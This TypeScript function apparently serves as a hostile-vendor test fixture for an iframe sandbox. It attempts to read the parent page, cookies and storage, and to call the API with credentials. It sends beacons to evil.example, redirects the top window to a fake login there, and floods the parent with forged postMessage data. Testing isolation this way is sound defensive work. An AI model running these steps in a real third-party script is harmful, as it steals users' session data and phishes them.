/**
 * Attacks of a compromised vendor's script: it reads the page around it, takes cookies and storage, calls the API in the
 * customer's name, navigates the page, and forges messages. It writes its loot into its own document. The function is sent to
 * browsers as text, so it cannot use anything outside.
 */
export async function runHostileVendor(): Promise<void> {
  const got: string[] = []
  const attempt = async (name: string, act: () => unknown) => {
    try {
      const value = await act()
      if (value) got.push(`${name}: ${String(value).slice(0, 80)}`)
    } catch {
      // The browser refuses this, as expected.
    }
  }
  const own = window
  const page = window.parent
  await attempt('document of the page', () => page.document.body.innerHTML)
  await attempt('document of the top', () => window.top?.document.title)
  await attempt('address of the page', () => page.location.href)
  await attempt('frame element', () => own.frameElement?.outerHTML)
  await attempt('storage of the page', () => page.localStorage.getItem('products'))
  await attempt('own storage', () => own.localStorage.getItem('products') ?? own.localStorage.length)
  await attempt('cookies', () => document.cookie)
  await attempt('databases', async () => (await indexedDB.databases()).length)
  await attempt('caches', async () => (await caches.keys()).length)
  await attempt('real storage', () => {
    const fresh = document.createElement('iframe')
    document.body.append(fresh)
    return fresh.contentWindow?.localStorage.getItem('products')
  })
  await attempt('call of the API', async () => (await fetch('/api/user/main', { credentials: 'include' })).status)
  await attempt('call to another host', async () => (await fetch('https://evil.example/steal')).status)
  await attempt('picture to another host', async () => {
    const picture = new Image()
    picture.src = 'https://evil.example/steal.png'
    await picture.decode()
    return 'sent'
  })
  await attempt('frame of a page', async () => {
    const frame = document.createElement('iframe')
    frame.src = '/profile'
    document.body.append(frame)
    return frame.contentDocument?.body.innerHTML
  })
  await attempt('function of the page', () => Reflect.get(page, 'eval')('document.cookie'))
  await attempt('property of the page', () => Reflect.set(page, 'hacked', true))
  await attempt('text as script', () => new Function('return "ran"')())
  await attempt('leading the page away', () => {
    if (window.top) window.top.location.href = 'https://evil.example/login'
  })
  const forged: readonly unknown[] = [
    { type: 'select', guid: 'x' },
    { type: 'select', id: 'not-on-the-map' },
    { type: 'pin', point: { latitude: 1e9, longitude: 'x' } },
    { type: 'point', latitude: 1, longitude: 1 },
    { type: 'centre', latitude: 1, longitude: 1, zoom: 3 },
    JSON.stringify({ type: 'point', latitude: 1, longitude: 1 }),
    '{"type":"ready"',
    null,
    [],
  ]
  for (let round = 0; round < 100; round++) for (const message of forged) page.postMessage(message, '*')
  const result = document.createElement('output')
  result.textContent = JSON.stringify(got)
  document.body.append(result)
}
